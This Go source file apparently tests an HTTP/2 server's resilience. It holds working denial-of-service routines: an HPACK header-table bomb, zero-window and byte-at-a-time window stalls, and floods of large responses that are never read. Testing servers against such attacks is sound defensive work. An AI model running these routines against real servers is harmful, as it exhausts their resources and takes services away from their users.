package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// bomb puts one field into the table and names it thousands of times in each request: one byte each.
func bomb(ctx context.Context, prefix, value []byte, times int) (string, error) {
	requests, refused, answered := 0, 0, 0
	for ctx.Err() == nil {
		c, err := openH2(true)
		if err != nil {
			continue
		}
		stop := context.AfterFunc(ctx, func() { c.conn.Close() })
		var last uint32
		for i := 0; i < 8 && err == nil; i++ {
			last, err = bombRequest(c, prefix, value, times, i == 0)
			requests++
		}
		switch outcome := c.outcome(last); {
		case outcome == "200":
			answered++
		case outcome != "nothing":
			refused++
		}
		stop()
		c.conn.Close()
	}
	detail := fmt.Sprintf("%d requests, %d connections refused", requests, refused)
	if answered > 0 {
		return detail, fmt.Errorf("%d connections had requests of %d fields answered", answered, times)
	}
	return detail, nil
}

func bombRequest(c *h2, prefix, value []byte, times int, first bool) (uint32, error) {
	stream := c.next
	c.next += 2
	// :method GET, :scheme http, :path /, and :authority as a literal that is not kept.
	block := append([]byte{0x82, 0x86, 0x04, 8}, "/public/"...)
	block = append(append(block, 0x01, 6), "attack"...)
	if first {
		block = append(append(block, prefix...), value...)
	}
	block = append(block, bytes.Repeat([]byte{0xbe}, times)...) // index 62: the newest of the table
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block[:min(len(block), 16_000)], EndStream: true,
		EndHeaders: len(block) <= 16_000}); err != nil {
		return stream, err
	}
	if len(block) > 16_000 {
		if err := c.WriteContinuation(stream, true, block[16_000:]); err != nil {
			return stream, err
		}
	}
	return stream, c.out.Flush()
}

// zeroWindow keeps responses waiting for a window that is never opened: a thousand streams on one connection, as far as
// it takes them, and a thousand on ten others of the same client.
func zeroWindow(ctx context.Context, e *env) (string, error) {
	streams := 0
	for _, n := range []int{1000, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100} {
		c, err := openH2(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return "", err
		}
		defer c.conn.Close()
		for range n {
			if _, err = c.request(true, get("/public/big")...); err != nil {
				break
			}
			streams++
		}
		c.out.Flush()
	}
	<-ctx.Done()
	return fmt.Sprintf("%d streams on 11 connections", streams), nil
}

// dripWindow opens the windows of its streams by a byte at a time.
func dripWindow(ctx context.Context, e *env) (string, error) {
	c, err := openH2(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return "", err
	}
	defer c.conn.Close()
	context.AfterFunc(ctx, func() { c.conn.Close() })
	for range 100 {
		c.request(true, get("/public/big")...)
	}
	c.out.Flush()
	updates := 0
	for ctx.Err() == nil && err == nil {
		for stream := uint32(1); stream < c.next && err == nil; stream += 2 {
			err = c.WriteWindowUpdate(stream, 1)
			updates++
		}
		c.out.Flush()
		time.Sleep(20 * time.Millisecond)
	}
	return fmt.Sprintf("%d updates", updates), nil
}

// unreadResponses asks for much with an open window, and reads nothing from the socket.
func unreadResponses(ctx context.Context, e *env) (string, error) {
	streams := 0
	for range 8 {
		c, err := openH2(false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
		if err != nil {
			return "", err
		}
		defer c.conn.Close()
		c.WriteWindowUpdate(0, 1<<30)
		for range 100 {
			c.request(true, get("/public/big?"+strings.Repeat("x", 100))...)
			streams++
		}
		c.out.Flush()
	}
	<-ctx.Done()
	return fmt.Sprintf("%d responses of 1 MiB that nobody reads", streams), nil
}
